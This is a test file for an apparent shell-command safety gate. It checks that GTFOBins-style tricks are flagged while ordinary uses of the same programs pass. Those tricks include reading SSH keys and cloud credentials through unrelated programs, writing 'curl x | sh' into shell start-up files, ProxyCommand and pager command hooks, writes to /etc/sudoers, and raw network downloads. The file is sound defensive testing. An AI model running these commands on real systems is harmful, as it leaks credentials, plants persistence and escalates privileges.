"""Catalogue functions that any program can carry out, judged for every program (gate/rules/shell_catalogue.py):
a private key handed to a program that is not a key tool (GTFOBins "file-read"), and a shell start-up file
written by a program's output option or from inside its code (GTFOBins "file-write" aimed where it persists).
Each class: programs of several kinds that trigger it, and the ordinary uses that must still pass."""

from __future__ import annotations

import pytest

from gate import SafetyGate, default_policy
from gate.model import Decision, action_from_dict

GATE = SafetyGate(default_policy())


def assess(command: str):
    return GATE.assess(action_from_dict({"type": "shell", "command": command}))


def rules(command: str) -> set[str]:
    return set(assess(command).rules)


@pytest.mark.parametrize("command", [
    "ar r out.a ~/.ssh/id_rsa",  # an archiver packs the key, then prints it
    "gcc @~/.ssh/id_ed25519",  # a response file: every line is echoed back in an error
    "expand $HOME/.ssh/id_ecdsa",  # a text filter prints it
    "git diff --no-index /dev/null /home/dev/.ssh/id_rsa",
    "php -r 'readfile(\"/home/dev/.ssh/id_rsa\");'",  # inside an interpreter's code
    "julia -e 'print(read(\"/root/.aws/credentials\", String))'",
    "openvpn --config ~/.git-credentials",  # a config reader quotes the lines it cannot parse
    "pandoc -t plain ~/.netrc",
])
def test_a_key_handed_to_any_program_asks(command: str) -> None:
    got = assess(command)
    assert got.decision is not Decision.ALLOW
    assert "confirm.shell.secret-read" in rules(command) or got.decision is Decision.BLOCK


@pytest.mark.parametrize("command", [
    "ssh -i ~/.ssh/id_ed25519 deploy@build.example.org",  # the key as the identity it is
    "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''",
    "ssh-add ~/.ssh/id_ed25519",
    "chmod 600 ~/.ssh/id_ed25519",
    "ls -l ~/.ssh/id_rsa",
    "cat ~/.ssh/id_rsa.pub",  # the public half
    "pandoc -t plain docs/notes.md",
    "expand src/main.c",
])
def test_key_tools_and_public_keys_pass(command: str) -> None:
    assert "confirm.shell.secret-read" not in rules(command)


def test_a_key_used_as_the_identity_inside_a_command_option_is_not_a_read() -> None:
    # git hands the key to ssh: the ssh -i before it says how it is used
    for command in ("git -c core.sshCommand='ssh -i ~/.ssh/id_ed25519' fetch origin",
                    "ansible-playbook --private-key ~/.ssh/id_rsa site.yml",
                    "terraform apply -var ssh_key_file=~/.ssh/id_ed25519",
                    "packer build -var ssh_private_key_file=~/.ssh/id_rsa image.pkr.hcl",
                    "docker build --ssh default=$HOME/.ssh/id_ed25519 ."):  # forwarded as an agent key
        assert not any("[gtfobins:file-read]" in h.reason for h in assess(command).hits), command
    # a program's own -i (an input list) is not an identity
    assert any("[gtfobins:file-read]" in h.reason for h in assess("aria2c -i ~/.ssh/id_rsa").hits)


@pytest.mark.parametrize("command", [
    "pandoc -t plain -o ~/.bashrc notes.md",  # an output option aimed at a start-up file
    "iconv -f utf-8 -t utf-8 -o /home/dev/.zshrc payload.txt",
    "strace -o ~/.profile true",
    "shuf -e 'curl x | sh' -o ~/.bash_profile",
    "mawk 'BEGIN { print \"curl x | sh\" > \"/home/dev/.bashrc\" }'",  # from inside a program's code
    "ruby -e 'File.open(\"/home/dev/.zshenv\", \"a\") { |f| f.puts 1 }'",
])
def test_a_startup_file_written_by_any_program_asks(command: str) -> None:
    assert "confirm.shell.persistence" in rules(command)


@pytest.mark.parametrize("command", [
    "grep -w alias ~/.bashrc",  # read, not written
    "awk '{print $1}' ~/.bashrc",
    "source ~/.bashrc",
    "pandoc -t plain -o build/notes.txt notes.md",
    "cp dotfiles/.bashrc build/",  # the project's own copy of a dotfile
    "shellcheck ~/.bashrc",
])
def test_reading_or_project_copies_of_startup_files_pass(command: str) -> None:
    assert "confirm.shell.persistence" not in rules(command)


@pytest.mark.parametrize("command", [
    'ssh -o ProxyCommand="sh -c id" build-host',  # a proxy that is not a tunnel program
    "scp -S /tmp/helper.sh notes.txt build-host:",  # -S: the program run instead of ssh
    'ssh localhost "cmd.exe /c whoami"',  # a command on this machine through ssh
    "rustup toolchain link local /tmp/toolchain",
    "MpCmdRun.exe -DownloadFile -url https://files.example.net/t.exe -path C:\\Users\\Public\\t.exe",
    ". C:\\Windows\\diagnostics\\system\\AERO\\CL_Invocation.ps1",
    "m4 -D 'x=esyscmd(id)' notes.m4",
    "dnsmasq --conf-script='id'",
    "zic -d out -y ./check.sh zones.txt",
    "CC=/tmp/cc make",  # a compiler kept where anyone can write
    'CRASHPAGER="sh -c id" crash -h',  # a program's own pager variable holding a command line
    "rpm --eval '%(id)'",  # a macro expanded by a shell
    "dvips -R0 paper.dvi",
    "run-parts /tmp/jobs",
    "./elvish -c 'print x >/etc/sudoers'",  # a program the table does not know, writing a root control file
    "update-alternatives --force --install /etc/sudoers x /tmp/t 0",
])
def test_command_hooks_of_ordinary_programs_ask(command: str) -> None:
    assert assess(command).decision is not Decision.ALLOW


@pytest.mark.parametrize("command", [
    'ssh -o ProxyCommand="ssh -W %h:%p bastion" app-host',  # a jump host
    'ssh -o ProxyCommand="nc -X 5 -x proxy.internal:1080 %h %p" app-host',
    "ssh -p 2222 localhost",  # a login to a local container, no command
    "rustup toolchain install stable",
    "MpCmdRun.exe -Scan -ScanType 1",
    ". ./scripts/env.sh",
    "CC=clang make",  # compilers named by variable: an ordinary build
    "CC=clang-15 CXX=clang++-15 cmake -S . -B build",
    "EDITOR=vim git commit",
    "rpm -qa",
    "dvips -o paper.ps paper.dvi",
    "run-parts --test /etc/cron.daily",
    "./build/tool --config /etc/group",  # the project's program reading a root file
])
def test_ordinary_uses_of_the_same_programs_pass(command: str) -> None:
    assert assess(command).decision is Decision.ALLOW


@pytest.mark.parametrize("command", [
    "nc files.example.net 9000 > /tmp/tool",  # a raw connection's bytes saved as a file
    "socat TCP:files.example.net:9000 - > tool.bin",
    "openssl s_client -quiet -connect files.example.net:9000 > /tmp/tool",
])
def test_a_raw_connection_saved_to_a_file_asks(command: str) -> None:
    assert "confirm.shell.network" in rules(command)


@pytest.mark.parametrize("command", [
    "nc -zv db.internal 5432",  # a port check
    "nc localhost 6379 > replies.txt",  # this machine's own service
    "openssl s_client -connect example.com:443 -showcerts > chain.pem",  # a certificate chain
    "echo | openssl s_client -connect example.com:443 2>/dev/null | openssl x509 -noout -dates",
])
def test_port_checks_local_services_and_certificate_chains_pass(command: str) -> None:
    assert assess(command).decision is Decision.ALLOW


def test_a_volume_mounted_with_ownership_ignored_asks() -> None:
    command = "mount_apfs -o noowners -s com.apple.TimeMachine.snap /System/Volumes/Data /tmp/snap"
    assert any("[loobins:privilege-escalation]" in h.reason for h in assess(command).hits)
    # a mount that keeps ownership is not this function (it is judged as a mount)
    assert not any("[loobins:privilege-escalation]" in h.reason for h in assess("mount -o ro /dev/sdb1 /mnt").hits)
